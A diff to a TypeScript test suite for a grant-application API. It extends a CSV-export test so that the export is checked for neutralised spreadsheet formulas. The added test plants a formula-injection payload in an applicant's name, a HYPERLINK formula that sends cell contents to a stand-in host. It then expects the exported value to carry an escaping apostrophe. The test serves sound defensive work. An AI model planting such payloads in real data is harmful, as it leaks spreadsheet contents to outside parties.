@@ -461,7 +461,7 @@ describe('grant applications', () => {
     ).toBe(409);
   });
 
-  it('lists for operators with filters and pagination, and exports CSV with Polish headers and a BOM', async () => {
+  it('lists for operators with filters and pagination, and exports CSV with Polish headers, a BOM and formulas neutralised', async () => {
     const other = await platform.account('applicant');
     const named = await submitted(
       applicationForm(1, {
@@ -500,6 +500,13 @@ describe('grant applications', () => {
       (await api().get('/api/applications', other.token)).body.items.map((a: any) => a.id),
     ).toEqual([named.id]);
     expect((await api().get('/api/applications?county=Płock', operator.token)).status).toBe(400);
+    const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';
+    const injecting = await submitted(
+      applicationForm(1, {
+        applicant: { ...(applicationForm(1).applicant as object), name: formula },
+      }),
+      (await platform.account('applicant')).token,
+    );
 
     const response = await fetch(`${api().url}/api/applications/export.csv?callId=${callId}`, {
       headers: { authorization: `Bearer ${operator.token}` },
@@ -508,7 +515,9 @@ describe('grant applications', () => {
     expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
     const bytes = new Uint8Array(await response.arrayBuffer());
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-    const rows: string[][] = parse(Buffer.from(bytes.slice(3)).toString('utf8'));
+    const text = Buffer.from(bytes.slice(3)).toString('utf8');
+    expect(text.split('\r\n')[0]).toMatch(/^Numer wniosku,Nabór,/);
+    const rows: string[][] = parse(text);
     expect(rows[0]).toEqual([
       'Numer wniosku',
       'Nabór',
@@ -538,6 +547,8 @@ describe('grant applications', () => {
       '1',
     ]);
     expect(rows.every((r) => r[2] !== 'roboczy')).toBe(true);
+    // an applicant's text that a spreadsheet would run as a formula comes out as text
+    expect(rows.find((r) => r[0] === injecting.reference)?.[3]).toBe(`'${formula}`);
     expect(
       (await api().get(`/api/applications/export.csv?callId=${callId}`, applicant.token)).status,
     ).toBe(403);
